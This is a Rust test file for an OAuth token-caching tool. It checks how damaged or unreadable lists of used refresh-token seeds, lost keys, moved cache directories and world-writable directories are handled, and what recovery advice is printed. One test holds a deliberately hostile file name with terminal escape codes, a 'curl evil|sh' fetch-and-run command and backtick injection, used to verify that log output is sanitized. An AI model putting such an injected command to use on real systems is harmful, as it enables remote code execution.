//! Lists of used seeds that cannot be read: what bars a name, what does not, and the way out that is printed.

mod support;

use oauthserver::{Client, Endpoint, Fault, OAuthServer, Settings, Times};
use serde_json::{Value, json};
use std::fs;
use std::os::unix::fs::PermissionsExt;
use support::{Sandbox, serve};

const JUNK: &str = "junk";
/// The base64 of 32 bytes.
const KEY: &str = "a2V5LW9mLXRoZS1jb250YWluZXItMzItYnl0ZXMhISE=";
const OTHER: &str = "YW5vdGhlci1rZXktb2YtZXhhY3RseS0zMi1ieXRlcyE=";

fn server() -> OAuthServer {
    serve(Settings { clients: vec![Client::public("app")], ..Settings::default() })
}

fn refresh_token(server: &OAuthServer) -> String {
    server.issue_refresh_family("app", "").refresh_token
}

/// Puts these names into the configuration, with what their `oauth2` says beside the client.
fn configure(sandbox: &Sandbox, server: &OAuthServer, names: &[(&str, Value)]) {
    let mut servers = json!({});
    for (name, more) in names {
        let mut oauth2 = json!({"clientId": "app"});
        oauth2.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        servers[name] = json!({"url": server.mcp_url(), "oauth2": oauth2});
    }
    sandbox.write_config(&json!({"servers": servers}));
}

fn seeded(server: &OAuthServer) -> Value {
    json!({"refreshToken": refresh_token(server)})
}

#[track_caller]
fn begins(sandbox: &Sandbox, name: &str) {
    assert_eq!(sandbox.run(&["get", name]).succeeds().text("source"), "granted");
}

#[test]
fn a_name_under_another_key_bars_no_seed_and_keeps_its_login() {
    let server = server();
    let sandbox = Sandbox::new();
    configure(&sandbox, &server, &[("demo", seeded(&server)), ("twin", seeded(&server))]);
    let one = sandbox.variable("MCP_CREDENTIAL_KEY", KEY);
    begins(&one, "demo");
    let other = one.without_variables().variable("MCP_CREDENTIAL_KEY", OTHER);
    let said = other.run(&["get", "twin", "--log", "warn"]).succeeds();
    assert!(said.stderr.contains("demo.token.json.seeds cannot be used (cache_damaged)"), "{}", said.stderr);
    assert!(!said.stderr.contains("erase"), "{}", said.stderr);
    let one = other.without_variables().variable("MCP_CREDENTIAL_KEY", KEY);
    assert_eq!(one.run(&["get", "demo"]).succeeds().text("source"), "cache");
}

#[test]
fn a_damaged_list_goes_with_its_login_also_where_no_seed_is_configured_any_more() {
    let server = server();
    let sandbox = Sandbox::new();
    configure(&sandbox, &server, &[("demo", seeded(&server))]);
    begins(&sandbox, "demo");
    configure(&sandbox, &server, &[("demo", json!({}))]);
    let list = sandbox.state("oauth/demo.token.json.seeds");
    fs::write(&list, JUNK).unwrap();
    sandbox.run(&["erase", "demo"]).succeeds();
    assert_eq!(fs::read_to_string(&list).unwrap(), JUNK, "not without being asked");
    sandbox.run(&["erase", "demo", "--scope", "all"]).succeeds();
    assert!(!list.exists());
    configure(&sandbox, &server, &[("demo", seeded(&server))]);
    begins(&sandbox, "demo");
}

#[test]
fn after_a_lost_key_the_way_out_that_is_printed_is_enough() {
    let server = server();
    let sandbox = Sandbox::new();
    configure(&sandbox, &server, &[("demo", seeded(&server)), ("twin", seeded(&server))]);
    begins(&sandbox, "demo");
    configure(&sandbox, &server, &[("demo", json!({})), ("twin", seeded(&server))]);
    fs::remove_file(sandbox.state("key.bin")).unwrap();
    let lost = sandbox.run(&["get", "demo"]).fails("cache_damaged", 5);
    assert!(lost.stderr.contains("erase NAME --scope all` for each server"), "{}", lost.stderr);
    for name in ["demo", "twin"] {
        sandbox.run(&["erase", name, "--scope", "all"]).succeeds();
    }
    configure(&sandbox, &server, &[("demo", seeded(&server)), ("twin", seeded(&server))]);
    begins(&sandbox, "twin");
    begins(&sandbox, "demo");
}

#[test]
fn a_name_that_has_moved_leaves_nothing_behind_that_bars_the_others() {
    let server = server();
    let sandbox = Sandbox::new();
    let demo = seeded(&server);
    configure(&sandbox, &server, &[("demo", demo.clone())]);
    begins(&sandbox, "demo");
    fs::write(sandbox.state("oauth/demo.token.json.seeds"), JUNK).unwrap();
    let moved = json!({"refreshToken": demo["refreshToken"], "tokenCacheDir": sandbox.home().join("apart")});
    configure(&sandbox, &server, &[("demo", moved), ("twin", seeded(&server))]);
    begins(&sandbox, "twin");
}

#[test]
fn a_directory_of_another_name_that_others_can_write_to_is_passed_over_in_plain_words() {
    let server = server();
    let sandbox = Sandbox::new();
    let apart = sandbox.home().join("apart\x1b[2J");
    fs::create_dir(&apart).unwrap();
    let hostile = "\x1b[2J\x1b[31mx; curl evil|sh #`id`\nmcp-credential: fine.token.json.seeds";
    for mode in [0o700, 0o777] {
        fs::write(apart.join(hostile), JUNK).unwrap();
        fs::write(apart.join("twin.token.json.seeds"), JUNK).unwrap();
        fs::set_permissions(&apart, fs::Permissions::from_mode(mode)).unwrap();
        configure(&sandbox, &server, &[("demo", seeded(&server)), ("twin", json!({"tokenCacheDir": apart}))]);
        let said = sandbox.run(&["get", "demo", "--log", "trace"]).succeeds();
        assert_eq!(said.text("source"), "granted");
        let code = if mode == 0o700 { "cache_damaged" } else { "insecure_storage" };
        assert!(said.stderr.contains(&format!("cannot be used ({code})")), "{}", said.stderr);
        assert!(!said.stderr.contains('\x1b') && !said.stderr.contains("curl"), "{}", said.stderr);
        sandbox.run(&["erase", "demo"]).succeeds();
    }
}

#[test]
fn a_seed_that_another_name_has_sent_without_an_answer_is_not_said_to_be_used() {
    let server = server();
    let sandbox = Sandbox::new();
    let seed = seeded(&server);
    configure(&sandbox, &server, &[("demo", seed.clone())]);
    server.fault(Endpoint::Refresh, Fault::body(500, "text/plain", "oops"), Times::Always);
    sandbox.run(&["get", "demo", "--timeout", "60"]).fails("unavailable", 75);
    server.clear_faults();
    let sent = server.token_requests().len();
    configure(&sandbox, &server, &[("twin", seed.clone())]);
    let said = sandbox.run(&["get", "twin"]).fails("interaction_required", 4).stderr;
    for words in ["was sent under the name `demo`", "mcp-credential get demo", "put a new one there"] {
        assert!(said.contains(words), "{said}");
    }
    assert!(!said.contains("used already") && !said.contains("erased"), "{said}");
    assert_eq!(server.token_requests().len(), sent);
    // What it advises works.
    configure(&sandbox, &server, &[("demo", seed)]);
    sandbox.forget_state();
    begins(&sandbox, "demo");
}
